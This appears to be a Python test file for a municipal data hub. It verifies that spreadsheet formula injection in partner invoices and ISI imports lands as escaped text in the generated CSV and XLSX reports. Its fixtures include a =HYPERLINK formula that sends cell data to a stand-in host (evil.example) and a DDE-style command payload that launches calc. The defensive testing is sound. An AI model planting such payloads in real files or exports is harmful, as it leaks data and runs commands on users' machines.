"""Spreadsheet injection from partner files: a school's invoice number ``=HYPERLINK(..)`` goes
through the connector, the store and the nightly report, and an ISI row type through the import;
in every CSV it lands as text (``'=..``), in the XLSX as a string cell, never as a formula."""

from __future__ import annotations

import asyncio
import csv
import zipfile
from collections.abc import Mapping, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

import topics
from connectors.edge import RuntimeSealer
from connectors.isi.importer import import_file
from connectors.taalaanbieder.translate import translate_file
from connectors.taalaanbieder.ublgen import Document, Line, render
from hub.publish import TopicWriter
from hub.reconcile.links import derived
from hub.reconcile.tables import load_tables
from hub.reconcile.view import case_view
from hub.report.collect import Options
from hub.report.columns import EXCEPTIONS
from hub.report.csvs import read_rows
from hub.report.nightly import run_nightly
from hub.runtime import Runtime
from hub.settings import from_env
from hub.spreadsheet import TRIGGERS, csv_text, csv_value
from hub.store import InboundMessage, Store

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
SCHOOL = "B10001"


def _invoice() -> bytes:
    return render(Document(
        number=EVIL, issue_date=date(2025, 3, 1), supplier_id=SCHOOL,
        supplier_name="@SUM(1+1)*cmd|' /C calc'!A0", supplier_kvk="12345678",
        buyer_reference="0363", buyer_oin="00000001002564440000", buyer_name="Gemeente Test",
        iban="NL02ABNA0123456789",
        lines=[Line("+Lesuren", Decimal(10), Decimal("41.00"), date(2025, 2, 1),
                    date(2025, 2, 28), case_ref="CR" + "0" * 62)]))


def _record(runtime: Runtime, tmp_path: Path) -> str:
    """The invoice through the school connector's translator and the codec into a store."""
    sealer = RuntimeSealer(runtime)
    routed = translate_file("F-2025-1.xml", _invoice(), school=SCHOOL, sealer=sealer,
                            received_at=datetime(2025, 3, 2, tzinfo=UTC))
    url = f"sqlite:///{tmp_path / 'report.db'}"
    store = Store(url, projection=case_view, derive=derived, deferred_views=True)
    messages = []
    for n, r in enumerate(routed):
        name, record = runtime.codec.decode(runtime.codec.encode(
            topics.by_name(r.topic).value_schema, r.record))
        messages.append(InboundMessage(r.topic, 0, n, record["message_id"], record["case_ref"],
                                       name, record))
    store.record_batch("formula-test", messages)
    while store.project_pending():
        pass
    store.close()
    return url


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


def _dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and csv_text(cell) != cell


def test_an_invoice_number_formula_stays_text_in_the_report_csv_and_xlsx(
        tmp_path: Path) -> None:
    runtime = Runtime(from_env({"HUB_HOME": str(tmp_path)}))
    url = _record(runtime, tmp_path)
    result = run_nightly(url, Options(date(2025, 6, 30)), tmp_path / "out", load_tables())

    csv_path = result.csvs[EXCEPTIONS.key]
    cells = [c for p in result.csvs.values() for c in _cells(p)]
    assert "'" + EVIL in cells and not [c for c in cells if _dangerous(c)]
    rows = list(read_rows(EXCEPTIONS, csv_path))  # the report's own reader undoes the rule
    numbers = {row[EXCEPTIONS.index("factuurnummer")] for row in rows}
    assert numbers == {EVIL}

    wb = openpyxl.load_workbook(result.xlsx)
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value == EVIL]
    assert found and {c.data_type for c in found} == {"s"}
    with zipfile.ZipFile(result.xlsx) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    formulas = [s for s in sheets if "HYPERLINK" in s.split("<f>", 1)[-1].split("</f>")[0]]
    assert not formulas and any("HYPERLINK" in s for s in sheets)


class RecordingWriter(TopicWriter):
    """Encodes and keeps records; no broker."""

    def __init__(self, runtime: Runtime) -> None:
        self._codec, self._suffix = runtime.codec, ""
        self.sent: dict[str, list[Mapping[str, Any]]] = {}

    async def send_many(self, topic: str, records: Sequence[Mapping[str, Any]]) -> None:
        for record in records:
            self.encode(topic, record)
        self.sent.setdefault(topic, []).extend(records)


def test_an_isi_row_type_formula_stays_text_in_the_rejects_file(tmp_path: Path) -> None:
    runtime = Runtime(from_env({"HUB_HOME": str(tmp_path)}))
    source = tmp_path / "export.csv"
    source.write_text('"=HYPERLINK(""http://e/"")";111222333\n'
                      "@cmd;111222333\n-2+3;111222333\n"
                      "PERSOON;111222333;;WI2007;GEZINSMIGRANT;01-03-2009\n", encoding="utf-8")
    rejects = tmp_path / "export.csv.rejects.csv"
    result = asyncio.run(import_file(source, RecordingWriter(runtime), RuntimeSealer(runtime),
                                     rejects))
    assert (result.accepted, result.rejected) == (1, 3)
    cells = _cells(rejects)
    kinds = [cells[i] for i in range(5, len(cells), 4)]  # the row_type column, after the header
    assert kinds == ["'=HYPERLINK(\"HTTP://E", "'@CMD", "'-2+3"]
    assert not [c for c in cells if _dangerous(c)]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+31 6", "'+31 6"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'quoted", "''quoted"), ("-12.50", "-12.50"),
    ("+31", "+31"), ("F-2025-1", "F-2025-1"), ("", ""),
])
def test_the_csv_rule_and_its_inverse(value: str, written: str) -> None:
    assert csv_text(value) == written and csv_value(written) == value
